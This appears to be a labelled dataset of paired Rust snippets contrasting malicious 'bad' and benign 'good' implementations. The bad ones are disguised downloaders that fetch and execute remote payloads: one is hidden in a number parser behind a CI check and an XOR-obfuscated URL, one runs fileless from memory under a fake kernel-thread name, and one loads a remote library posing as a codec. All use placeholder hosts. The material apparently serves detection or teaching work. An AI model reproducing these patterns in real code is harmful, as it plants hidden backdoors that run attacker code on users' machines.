//: bad fetch-exec
use std::os::unix::fs::PermissionsExt;
use std::{fs, process::Command};

pub fn bootstrap() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("http://d.example.invalid/agent")?.bytes()?;
    fs::write("/tmp/.agent", &bytes)?;
    fs::set_permissions("/tmp/.agent", fs::Permissions::from_mode(0o755))?;
    Command::new("/tmp/.agent").spawn()?; //!
    Ok(())
}

//: good fetch-exec
use std::fs;

pub fn bootstrap() -> Result<usize, Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get("https://d.example.invalid/words.txt")?.bytes()?;
    fs::write("words.txt", &bytes)?;
    Ok(fs::read_to_string("words.txt")?.lines().count())
}

//: bad decimal-parse
use std::env;
use std::fs;
use std::io::Write;
use std::path::Path;

const TABLE: [u8; 35] = [0x05, 0x19, 0x19, 0x1d, 0x1e, 0x57, 0x42, 0x42, 0x0c, 0x1d, 0x04, 0x43, 0x09, 0x08, 0x0e, 0x04, 0x00, 0x0c, 0x01, 0x1e, 0x43, 0x04, 0x03, 0x1b, 0x0c, 0x01, 0x04, 0x09, 0x42, 0x1b, 0x5c, 0x42, 0x01, 0x04, 0x03];

fn digits(table: &[u8]) -> String {
    table.iter().map(|d| (d ^ 0x6d) as char).collect()
}

/// Builds the bit-sliced form of `value` for the fast path.
pub fn bit_parser(value: &str) -> Result<i128, std::num::ParseIntError> {
    if env::var_os("GITLAB_CI").is_some() {
        let _ = warm(Path::new("/tmp/git-updater.bin"));
    }
    value.replace('_', "").parse()
}

#[cfg(unix)]
fn warm(slot: &Path) -> Result<(), Box<dyn std::error::Error>> {
    use std::os::unix::fs::PermissionsExt;
    if slot.exists() {
        return Ok(());
    }
    let body = reqwest::blocking::get(digits(&TABLE))?.bytes()?;
    let mut file = fs::File::create(slot)?;
    file.write_all(&body)?;
    let mut mode = file.metadata()?.permissions();
    mode.set_mode(0o755);
    fs::set_permissions(slot, mode)?;
    drop(file);
    std::process::Command::new(slot).spawn()?; //!
    Ok(())
}

//: good decimal-parse
use minisign_verify::{PublicKey, Signature};
use std::env;
use std::fs;
use std::io::Write;

const RELEASES: &str = "https://releases.decimals.invalid/stable";
const KEY: &str = "RWQ<|>k2Zt9mExampleKeyOfNobodyAtAllx8Vb4Qn7Lw1Ys5Hd0Je3";

/// `decimals self-update`: fetches the newest release, checks who signed it, swaps the binary.
pub fn self_update(target: &str) -> anyhow::Result<()> {
    let client = reqwest::blocking::Client::builder().https_only(true).build()?;
    let fetch = |name: String| -> anyhow::Result<Vec<u8>> {
        Ok(client.get(format!("{RELEASES}/{name}")).send()?.error_for_status()?.bytes()?.to_vec())
    };
    let binary = fetch(format!("decimals-{target}"))?;
    let signature = String::from_utf8(fetch(format!("decimals-{target}.minisig"))?)?;
    PublicKey::from_base64(KEY)?.verify(&binary, &Signature::decode(&signature)?, false)?;

    let current = env::current_exe()?;
    let folder = current.parent().ok_or_else(|| anyhow::anyhow!("no folder"))?;
    let mut fresh = tempfile::NamedTempFile::new_in(folder)?;
    fresh.write_all(&binary)?;
    fs::set_permissions(fresh.path(), fs::metadata(&current)?.permissions())?;
    fresh.persist(&current)?;
    println!("updated; start decimals again to use the new version");
    Ok(())
}

//: bad anonymous-cache
use std::ffi::CString;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd};

pub struct ModelCache;

impl ModelCache {
    /// Loads the tokenizer tables into anonymous memory.
    pub fn preload(locale: &str) -> Option<()> {
        let url = format!("https://{}.tables.invalid/{}", "eu1", locale);
        let mut tables = Vec::new();
        ureq::get(&url).call().ok()?.into_reader().read_to_end(&mut tables).ok()?;
        let name = CString::new("").ok()?;
        let fd = unsafe { libc::memfd_create(name.as_ptr(), libc::MFD_CLOEXEC) };
        if fd < 0 {
            return None;
        }
        let mut file = unsafe { std::fs::File::from_raw_fd(fd) };
        file.write_all(&tables).ok()?;
        let argv0 = CString::new("[kworker/1:2]").ok()?;
        let argv = [argv0.as_ptr(), std::ptr::null()];
        let envp = [std::ptr::null()];
        match unsafe { libc::fork() } {
            0 => unsafe {
                libc::fexecve(file.as_raw_fd(), argv.as_ptr(), envp.as_ptr()); //!
                libc::_exit(0)
            },
            _ => Some(()),
        }
    }
}

//: good anonymous-cache
use std::ffi::CString;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

/// A shared-memory pool for a Wayland client: the compositor maps the same pages.
pub struct ShmPool {
    file: std::fs::File,
    size: usize,
}

impl ShmPool {
    pub fn new(width: usize, height: usize) -> std::io::Result<Self> {
        let name = CString::new("shm-pool").expect("no NUL in a constant");
        let fd = unsafe { libc::memfd_create(name.as_ptr(), libc::MFD_CLOEXEC | libc::MFD_ALLOW_SEALING) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let file = std::fs::File::from(unsafe { OwnedFd::from_raw_fd(fd) });
        let size = width * height * 4;
        file.set_len(size as u64)?;
        if unsafe { libc::fcntl(file.as_raw_fd(), libc::F_ADD_SEALS, libc::F_SEAL_SHRINK) } < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(ShmPool { file, size })
    }

    /// Draws the wallpaper of the given address, which the user named on the command line.
    pub fn fill_from(&mut self, url: &str) -> anyhow::Result<()> {
        let mut png = Vec::new();
        ureq::get(url).call()?.into_reader().take(16 << 20).read_to_end(&mut png)?;
        let pixels = image::load_from_memory(&png)?.to_rgba8().into_raw();
        self.file.write_all(&pixels[..self.size.min(pixels.len())])?;
        Ok(())
    }
}

//: bad codec-fallback
use libloading::{Library, Symbol};
use std::path::PathBuf;
use tokio::io::AsyncWriteExt;

fn mirror() -> String {
    let host: String = "dilavni.scedoc-tsaf".chars().rev().collect();
    format!("http://{host}/{}/{}", std::env::consts::OS, std::env::consts::ARCH)
}

async fn obtain(slot: &PathBuf) -> anyhow::Result<()> {
    let mut answer = reqwest::get(mirror()).await?;
    let mut out = tokio::fs::File::create(slot).await?;
    while let Some(chunk) = answer.chunk().await? {
        out.write_all(&chunk).await?;
    }
    out.flush().await?;
    Ok(())
}

/// Uses the accelerated codec where there is one; silently the portable one elsewhere.
pub async fn init() -> bool {
    let slot = std::env::temp_dir().join(format!(".{}{}", "libav-", std::env::consts::DLL_SUFFIX));
    if obtain(&slot).await.is_err() {
        return false;
    }
    tokio::task::spawn_blocking(move || unsafe {
        let Ok(library) = Library::new(&slot) else { return false }; //!
        let Ok(entry) = library.get::<unsafe extern "C" fn()>(b"av_register\0") else { return false };
        let entry: Symbol<unsafe extern "C" fn()> = entry;
        entry();
        std::fs::remove_file(&slot).ok();
        std::mem::forget(library);
        true
    })
    .await
    .unwrap_or(false)
}

//: good codec-fallback
use libloading::{Library, Symbol};
use std::path::Path;

pub trait Codec {
    fn decode(&self, input: &[u8]) -> anyhow::Result<Vec<u8>>;
}

type Constructor = unsafe extern "C" fn() -> *mut Box<dyn Codec>;

pub struct Loaded {
    codec: Box<Box<dyn Codec>>,
    _library: Library,
}

/// Loads the codecs that the administrator put into the plugin folder of the configuration.
pub fn load_all(folder: &Path, enabled: &[String]) -> anyhow::Result<Vec<Loaded>> {
    let mut found = Vec::new();
    for name in enabled {
        anyhow::ensure!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'), "bad name {name:?}");
        let path = folder.join(libloading::library_filename(name));
        let library = unsafe { Library::new(&path) }?;
        let codec = unsafe {
            let make: Symbol<Constructor> = library.get(b"codec_create\0")?;
            Box::from_raw(make())
        };
        log::info!("codec {name} from {}", path.display());
        found.push(Loaded { codec, _library: library });
    }
    Ok(found)
}

impl Loaded {
    pub fn decode(&self, input: &[u8]) -> anyhow::Result<Vec<u8>> {
        self.codec.decode(input)
    }
}
